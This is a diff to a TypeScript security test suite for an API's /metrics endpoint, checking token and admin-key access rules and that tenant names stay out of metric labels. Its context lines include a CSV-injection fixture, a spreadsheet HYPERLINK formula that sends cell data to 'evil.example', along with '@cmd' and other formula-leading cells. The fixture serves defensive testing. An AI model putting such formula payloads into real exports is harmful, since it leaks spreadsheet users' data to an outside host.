@@ -58,6 +58,75 @@ describe('security edges: /metrics, CSV cells, headers and cookies, per-tenant e
   };
   const errorText = (res: { body: { error?: { message?: string; details?: unknown } } }) => `${res.body.error?.message ?? ''} ${JSON.stringify(res.body.error?.details ?? [])}`;
 
+  describe('6. /metrics needs the metrics token or a platform-admin key; tenant and team names stay out of its labels', () => {
+    let t: Awaited<ReturnType<typeof makeTenant>>;
+    let tenantAdmin: string;
+
+    beforeAll(async () => {
+      t = await makeTenant(sys.db, 'edge-metrics-acme', { scopes: TENANT_SCOPES, quota: { guaranteed: 0, limit: 8 } });
+      tenantAdmin = `Bearer ${(await createApiKey(sys.db, { name: 'edge tenant admin', role: 'tenant_admin', tenantId: t.tenant.id, scopes: TENANT_SCOPES })).key}`;
+      // A pending job of this team (a queue-depth row), kept pending: its tenant may use no GPU.
+      expect((await sys.http().put(`/v1/tenants/${t.tenant.id}/quota`).set('Authorization', ADMIN).send({ gpuTotal: 0 })).status).toBe(200);
+      await sys.db.job.create({ data: { tenantId: t.tenant.id, teamId: t.team.id, name: 'edge-pending', kind: 'batch', replicas: 1, resources: { gpus: 1, cpuMilli: 4000, memoryMiB: 16384 } } });
+    });
+
+    const queueDepthLine = (text: string) => text.split('\n').find((l) => l.startsWith('gantry_queue_depth{') && l.includes(t.team.id));
+
+    it.each([
+      ['no Authorization header', undefined],
+      ['a wrong metrics token', 'Bearer edges-metrics-token-0123456789abcdeX'],
+      ['an unknown API key', 'Bearer gk_nobody_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'],
+      ['a malformed header', 'Basic Zm9vOmJhcg=='],
+    ])('answers 401 in the error envelope with %s', async (_n, auth) => {
+      const req = sys.http().get('/metrics');
+      const res = auth ? await req.set('Authorization', auth) : await req;
+      expectEnvelope(res, 401);
+      expect(res.text).not.toContain('gantry_queue_depth');
+    });
+
+    it('refuses a tenant key, even a tenant admin’s (403, envelope)', async () => {
+      for (const auth of [t.auth, tenantAdmin]) {
+        const res = await sys.http().get('/metrics').set('Authorization', auth);
+        expectEnvelope(res, 403);
+        expect(res.text).not.toContain(t.tenant.slug);
+      }
+    });
+
+    it('scrapes with Authorization: Bearer <GANTRY_METRICS_TOKEN>: opaque tenant_id and team_id labels, no tenant or team names', async () => {
+      const res = await sys.http().get('/metrics').set('Authorization', `Bearer ${METRICS_TOKEN}`);
+      expect(res.status).toBe(200);
+      expect(res.headers['content-type']).toMatch(/^text\/plain/);
+      const line = await eventually(async () => queueDepthLine((await sys.http().get('/metrics').set('Authorization', `Bearer ${METRICS_TOKEN}`)).text));
+      expect(line).toBe(`gantry_queue_depth{tenant_id="${t.tenant.id}",team_id="${t.team.id}"} 1`);
+      expect(res.text).not.toContain('edge-metrics-acme');
+      expect(res.text).not.toMatch(/\b(tenant|team)="/);
+    });
+
+    it('scrapes with a platform-admin key', async () => {
+      const res = await sys.http().get('/metrics').set('Authorization', ADMIN);
+      expect(res.status).toBe(200);
+      expect(res.text).toContain('# TYPE gantry_queue_depth gauge');
+    });
+
+    it('without GANTRY_METRICS_TOKEN only platform-admin keys scrape', async () => {
+      const http = await startApi({});
+      expectEnvelope(await http().get('/metrics'), 401);
+      expectEnvelope(await http().get('/metrics').set('Authorization', `Bearer ${METRICS_TOKEN}`), 401);
+      expect((await http().get('/metrics').set('Authorization', ADMIN)).status).toBe(200);
+    });
+
+    it('adds tenant and team labels only with GANTRY_METRICS_TENANT_LABELS=true', async () => {
+      const http = await startApi({ GANTRY_METRICS_TOKEN: METRICS_TOKEN, GANTRY_METRICS_TENANT_LABELS: 'true' });
+      const res = await http().get('/metrics').set('Authorization', `Bearer ${METRICS_TOKEN}`);
+      expect(res.status).toBe(200);
+      expect(queueDepthLine(res.text)).toBe(`gantry_queue_depth{tenant_id="${t.tenant.id}",team_id="${t.team.id}",tenant="${t.tenant.slug}",team="${t.team.slug}"} 1`);
+    });
+
+    it('refuses a metrics token shorter than 16 characters at boot', () => {
+      expect(() => parseConfig({ GANTRY_METRICS_TOKEN: 'short' })).toThrow(/GANTRY_METRICS_TOKEN/);
+    });
+  });
+
   describe('8. CSV exports neutralise cells that a spreadsheet would run as a formula', () => {
     const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open report")';
     const NAMES = [HYPERLINK, '+SUM(1,2)', '-2+3', '@cmd', 'Plain, "quoted" team'];
